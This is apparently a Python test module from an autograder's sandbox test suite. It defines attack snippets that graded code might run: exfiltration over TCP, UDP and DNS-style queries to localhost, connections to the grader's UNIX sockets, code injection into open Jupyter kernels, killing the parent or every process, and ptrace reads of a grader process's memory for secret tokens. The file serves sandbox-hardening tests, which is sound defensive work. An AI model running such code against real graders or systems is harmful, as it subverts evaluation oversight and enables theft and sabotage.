"""Attacks that would talk to somebody, or lay hands on another process."""

from tests.autograder.attacks.attack import Attack

TRY = """
import os, socket
def attempt(what):
    try:
        what()
    except OSError as error:
        print(type(error).__name__)
def say(family, address):
    with socket.socket(family) as there:
        there.settimeout(2)
        there.connect(address)
        there.sendall(b"@ME@")
"""
FIND = """
import glob, os
def processes():
    for folder in glob.glob("/proc/[0-9]*"):
        try:
            if open(folder + "/cmdline").read() == "sleep\\x00@VICTIM@\\x00": yield int(folder[6:])
        except OSError:
            pass
"""

REACHING = [
    Attack("TCP", "sends what it knows over TCP",
           after=TRY + "attempt(lambda: say(socket.AF_INET, ('127.0.0.1', @TCP@)))"),
    Attack("UDP", "sends what it knows over UDP",
           after=TRY + "attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b'@ME@', ('127.0.0.1', @UDP@)))"),
    Attack("name server", "hides what it knows in the name that it asks a name server for", after=TRY + """
name = bytes([len(b"@ME@")]) + b"@ME@" + b"\\x07example\\x00"
query = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + name + b"\\x00\\x01\\x00\\x01"
attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", @UDP@)))"""),
    Attack("UNIX socket", "connects to a service of the one who grades by its path",
           after=TRY + "attempt(lambda: say(socket.AF_UNIX, '@SOCKET@'))"),
    Attack("abstract UNIX socket", "connects to a service of the one who grades by its abstract name",
           after=TRY + "attempt(lambda: say(socket.AF_UNIX, '\\0@ABSTRACT@'))"),
    Attack("another program's network", "lets a program that it starts send for it",
           after="import subprocess, sys\nsubprocess.run([sys.executable, '-c', '''" + TRY
                 + "attempt(lambda: say(socket.AF_INET, ('127.0.0.1', @TCP@)))'''], timeout=8)"),
    Attack("another kernel", "runs code in a notebook that the one who grades has open", after="""
import glob, json, zmq
from jupyter_client.session import Session
for file in glob.glob("@HOME@/.local/share/jupyter/runtime/kernel-*.json"):
    there = json.load(open(file))
    channel = zmq.Context.instance().socket(zmq.DEALER)
    channel.linger = 1000
    channel.connect(f"tcp://{there['ip']}:{there['shell_port']}")
    Session(key=there["key"].encode()).send(channel, "execute_request", {"code": "print('@ME@')", "silent": True})
    channel.close()"""),
    Attack("signal", "kills a process of the one who grades",
           after=FIND + "for process in processes(): os.kill(process, 9)\nprint('looked')"),
    Attack("parent killed", "kills the process that grades it", after="""
import os, time
try:
    os.kill(os.getppid(), 9)
except OSError as error:
    print(type(error).__name__)"""),
    Attack("all killed", "kills every process that it may", after="""
import os
try:
    os.kill(-1, 9)
except OSError as error:
    print(type(error).__name__)"""),
    Attack("debugger", "attaches to a process of the one who grades and reads its memory", after=FIND + """
import ctypes, re
libc = ctypes.CDLL(None, use_errno=True)
for process in processes():
    libc.ptrace(16, process, 0, 0)
    for line in open(f"/proc/{process}/maps"):
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "[stack]" in line:
            memory = open(f"/proc/{process}/mem", "rb", 0)
            memory.seek(start)
            print(re.findall(rb"sesame-[a-z]+-[0-9a-f]+", memory.read(end - start)))
    libc.ptrace(17, process, 0, 0)"""),
]
